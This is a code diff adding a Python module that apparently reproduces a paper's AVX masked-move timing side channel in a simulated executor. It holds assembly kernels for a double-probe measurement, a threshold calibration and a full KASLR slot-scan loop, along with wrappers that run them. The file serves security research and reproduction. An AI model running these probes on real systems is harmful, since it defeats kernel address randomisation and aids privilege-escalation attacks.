@@ -1,0 +1,127 @@
+"""The paper's proof-of-concept kernels, written in the ISA subset.
+
+``DOUBLE_PROBE_POC`` is the Section IV-B measurement primitive: access
+the candidate address twice with an all-zero-mask VPMASKMOV and time the
+second access with fenced RDTSC reads.  ``STORE_CALIBRATION_POC`` is the
+threshold source: one timed zero-mask store on the attacker's own clean
+read-write page.
+"""
+
+from repro.isa.executor import Executor
+
+#: rdi = candidate address.  Returns the timed second access in rax.
+DOUBLE_PROBE_POC = """
+    ; AVX timing probe (P1 + P2): measure the SECOND access
+    vpxor   ymm0, ymm0, ymm0        ; all-zero mask -> faults suppressed
+    vpmaskmovd ymm1, ymm0, [rdi]    ; 1st access: warm TLB if mapped
+
+    lfence
+    rdtsc                           ; start timestamp
+    shl     rdx, 32
+    or      rax, rdx                ; full 64-bit start
+    mov     r9, rax
+    lfence
+
+    vpmaskmovd ymm1, ymm0, [rdi]    ; 2nd access: the measured one
+
+    lfence
+    rdtsc                           ; stop timestamp
+    shl     rdx, 32
+    or      rax, rdx
+    lfence
+
+    sub     rax, r9                 ; delta
+    ret
+"""
+
+#: rdi = attacker's clean rw page.  Returns the timed store in rax.
+STORE_CALIBRATION_POC = """
+    ; threshold calibration (Section IV-B): store on USER-M with D=0
+    vpxor   ymm0, ymm0, ymm0
+
+    lfence
+    rdtsc
+    shl     rdx, 32
+    or      rax, rdx
+    mov     r9, rax
+    lfence
+
+    vpmaskmovd [rdi], ymm0, ymm1    ; zero-mask store: A/D assist, no write
+
+    lfence
+    rdtsc
+    shl     rdx, 32
+    or      rax, rdx
+    lfence
+
+    sub     rax, r9
+    ret
+"""
+
+#: rdi = base address, rsi = slot count, rdx(unused); probes rsi slots of
+#: 2 MiB each and leaves the fastest slot index in r12 -- a full KASLR
+#: scan loop expressed in the ISA (slower than the library path; for
+#: demonstration and cross-validation).
+KASLR_SCAN_POC = """
+    mov     r10, 0                  ; slot index
+    mov     r11, 0x7fffffffffffffff ; best time
+    mov     r12, 0                  ; best slot
+    vpxor   ymm0, ymm0, ymm0
+scan:
+    cmp     r10, rsi
+    jge     done
+    vpmaskmovd ymm1, ymm0, [rdi]    ; warm access
+
+    lfence
+    rdtsc
+    shl     rdx, 32
+    or      rax, rdx
+    mov     r9, rax
+    lfence
+    vpmaskmovd ymm1, ymm0, [rdi]    ; timed access
+    lfence
+    rdtsc
+    shl     rdx, 32
+    or      rax, rdx
+    lfence
+    sub     rax, r9
+
+    cmp     rax, r11                ; new minimum?
+    jge     next
+    mov     r11, rax
+    mov     r12, r10
+next:
+    mov     rax, r11                ; keep r11 intact
+    add     rdi, 0x200000           ; next 2 MiB slot
+    add     r10, 1
+    jmp     scan
+done:
+    ret
+"""
+
+
+def run_double_probe_poc(machine, address):
+    """Assemble + run the double-probe PoC; returns measured cycles."""
+    executor = Executor(machine.core)
+    regs = executor.run(DOUBLE_PROBE_POC, inputs={"rdi": address})
+    return regs.read("rax")
+
+
+def run_store_calibration_poc(machine, samples=200):
+    """Run the calibration PoC repeatedly; returns the mean measurement."""
+    executor = Executor(machine.core)
+    page = machine.playground.user_rw
+    values = [
+        executor.run(STORE_CALIBRATION_POC, inputs={"rdi": page}).read("rax")
+        for _ in range(samples)
+    ]
+    return sum(values) / len(values)
+
+
+def run_kaslr_scan_poc(machine, start, slots):
+    """Run the full scan loop PoC; returns (best_slot, best_cycles)."""
+    executor = Executor(machine.core, max_steps=60 * slots + 64)
+    regs = executor.run(
+        KASLR_SCAN_POC, inputs={"rdi": start, "rsi": slots}
+    )
+    return regs.read("r12"), regs.read("r11")
